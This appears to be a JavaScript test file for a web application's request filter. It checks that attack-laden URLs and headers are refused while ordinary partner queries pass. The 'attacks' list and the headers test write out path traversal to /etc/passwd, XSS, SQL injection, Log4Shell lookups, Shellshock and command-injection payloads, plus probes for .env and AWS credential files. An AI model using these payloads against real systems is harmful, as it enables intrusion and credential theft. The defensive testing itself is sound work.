import assert from 'node:assert/strict'
import { test } from 'node:test'
import * as fc from 'fast-check'
import { processorTime } from '../../../test/world/own-time.ts'
import { createEdge } from './edge.ts'
import { isSuspicious } from './managed-rules.ts'

const attacks = [
  '/v1/../../etc/passwd',
  '/v1/orders/..%2f..%2fsecret',
  '/v1/orders/%2e%2e/%2e%2e/x',
  '/v1/orders/%252e%252e%252fx',
  '/v1/orders/..%5c..%5cboot.ini',
  '/v1/orders/..;/admin',
  '/v1/orders/%c0%ae%c0%ae/x',
  '/v1/orders/..',
  '/v1/products?q=../../../etc/hosts',
  '/v1/products?q=%2Fetc%2Fpasswd',
  '/v1/products?q=<script>alert(1)</script>',
  '/v1/products?q=%3Cscript%20src%3D//x%3E',
  '/v1/products?q=%253Cscript%253E',
  '/v1/products?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E',
  '/v1/products?q=%3Csvg/onload%3Dalert(1)%3E',
  "/v1/products?q=1'+UNION+SELECT+null,null--",
  '/v1/products?q=1%20union%20all%20select%20username,password%20from%20users',
  "/v1/products?q='+or+'1'='1",
  "/v1/products?q='%20OR%201=1--",
  '/v1/products?q=1;select+pg_sleep(10)',
  '/v1/products?q=1+and+sleep(5)',
  "/v1/products?q=1;waitfor+delay+'0:0:5'",
  '/v1/products?q=x;+drop+table+orders',
  '/v1/products?q=$%7Bjndi:ldap://x/a%7D',
  '/v1/products?q=$%7B$%7Blower:j%7Dndi:ldap://x/a%7D',
  '/v1/orders?partnerOrderId=a%00b',
  '/v1/products?q=x;cat%20/etc/group',
  '/v1/products?q=x%26%26curl+http://x',
  '/.env',
  '/v1/.env.local',
  '/%2eenv',
  '/.git/config',
  '/.git',
  '/.aws/credentials',
  '/wp-admin/setup.php',
  '/index.php',
  '/phpmyadmin/',
  '/v1/proc?x=/proc/self/environ',
]

const innocent = [
  '/v1/ping',
  '/v1/me',
  '/v1/mcp',
  '/oauth2/token',
  '/.well-known/oauth-authorization-server',
  '/.well-known/oauth-protected-resource/v1/mcp',
  '/v1/orders/1001/items/2/proof/approve',
  '/v1/orders/-1',
  '/v1/orders/abc',
  '/v1/products/SLO_123/segments',
  '/v1/products/SLS_000000000000000001/images/4',
  '/v1/orders/submissions/018f6b1e-7e4c-7b39-9c1d-3d9d6f0e2b11',
  "/v1/products?siteId=101&q=men's%20and%20women's%20shirts",
  "/v1/products?siteId=101&q=o'neill+or+d'arcy",
  '/v1/products?siteId=101&q=select',
  '/v1/products?siteId=101&q=union+jack+select+grade',
  '/v1/products?siteId=101&q=trade%20union%20select%20pack',
  '/v1/products?siteId=101&q=sleep+(5+piece+set)',
  '/v1/products?siteId=101&q=drop+table+cloth',
  '/v1/products?siteId=101&q=insert+cards;+table+tents',
  '/v1/products?siteId=101&q=100%25+cotton',
  '/v1/products?siteId=101&q=a4+%3C+a3',
  '/v1/products?siteId=101&q=%22business+cards%22+(matte)',
  '/v1/products?siteId=101&q=caf%C3%A9+%E2%98%95',
  '/v1/products?siteId=101&q=etc.+and+so+on...',
  '/v1/products?siteId=101&q=scripture+cards',
  '/v1/products?siteId=101&q=C%2B%2B+%26+C%23;+id+cards',
  '/v1/products?q=%20%20',
  '/v1/orders?placedFrom=2026-01-01T00:00:00.000Z&placedTo=2026-02-01T00%3A00%3A00%2B02%3A00',
  '/v1/orders?partnerOrderId=PO-2026/001-A..B&status=IN_PRODUCTION&limit=200',
  '/v1/users?email=kim.o%27hara%2Btest%40mail.example.com&siteId=101',
  "/v1/users?email=o'brien@example.com",
  '/v1/orders?cursor=eyJ2IjoxLCJrIjpbIjIwMjYtMDMtMDEiXX0_-abcDEF0123456789__--',
  '/oauth2/authorize?response_type=code&client_id=https%3A%2F%2Fapp.example%2Fclient.json&redirect_uri=http%3A%2F%2F127.0.0.1%3A33418%2Fcallback&state=a-b_c&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256&resource=https%3A%2F%2Fapi.example%2Fv1%2Fmcp&scope=partner-api%2Forders%3Aread%20partner-api/sites:read',
]

const agents = [
  'curl/8.5.0',
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  "O'Neill-Integrations/2.1 (+https://partner.example/bot; select; union)",
  'node',
]

test('LIM-10 what attack tools send in a URL is refused', () => {
  for (const url of attacks) assert.ok(isSuspicious(url, {}), url)
})

test('LIM-10 what partners send in a URL is admitted', () => {
  for (const url of innocent) assert.ok(!isSuspicious(url, {}), url)
  for (const agent of agents)
    assert.ok(!isSuspicious('/v1/me', { 'user-agent': agent, referer: 'https://x.example/a?b=c' }), agent)
})

test('LIM-10 cursors, words and e-mail addresses of any form are admitted', () => {
  const cursor = fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes).toString('base64url'))
  const word = fc.constantFrom(
    'select',
    'union',
    'or',
    'and',
    "men's",
    'table',
    'drop',
    'script',
    'sleep',
    '&',
    '%',
    '+',
    '10x15',
  )
  const phrase = fc.array(word, { maxLength: 8 }).map((words) => words.join(' '))
  fc.assert(
    fc.property(cursor, phrase, fc.emailAddress(), (anyCursor, q, email) => {
      const query = new URLSearchParams({ siteId: '101', cursor: anyCursor, q, email })
      assert.ok(!isSuspicious(`/v1/products?${query}`, {}), `${q} ${email}`)
    }),
    { numRuns: 1000, seed: 2026 },
  )
})

test('LIM-10 the same marks in headers are refused', () => {
  for (const value of ['${jndi:ldap://x/a}', '<script>x</script>', "' or 1=1 --", '() { :;}; ; cat /etc/passwd']) {
    assert.ok(isSuspicious('/v1/me', { 'user-agent': value }), value)
    assert.ok(isSuspicious('/v1/me', { referer: value }), value)
  }
})

test('LIM-10 scanning a long request costs little', () => {
  const hostile = [
    "'".repeat(16_000),
    `union${' '.repeat(16_000)}`,
    `${"' or 'aaaaaaaaaaaaaaaaaaaa' ".repeat(550)}`,
    '<svg '.repeat(3200),
    '../'.repeat(5).replaceAll('/', '') + '%2e'.repeat(5000),
    '${lower:'.repeat(2000),
  ]
  for (const text of hostile) {
    const taken = processorTime(() => isSuspicious(`/v1/products?q=${text}`, { 'user-agent': text }))
    assert.ok(taken < 200, text.slice(0, 20))
  }
})

test('LIM-08 LIM-10 the edge also counts requests that its rules refuse, and keeps the rules when limits are off', () => {
  const edge = createEdge({ limits: 'on', monotonic: () => 0 })
  for (let turn = 0; turn < 2000; turn++) assert.equal(edge.admits('203.0.113.1', '/.env', {}), false)
  assert.equal(edge.admits('203.0.113.1', '/v1/ping', {}), false)
  assert.equal(edge.admits('203.0.113.2', '/v1/ping', {}), true)

  const open = createEdge({ limits: 'off', monotonic: () => 0 })
  for (let turn = 0; turn < 2500; turn++) assert.equal(open.admits('203.0.113.1', '/v1/ping', {}), true)
  assert.equal(open.admits('203.0.113.1', '/.env', {}), false)
})
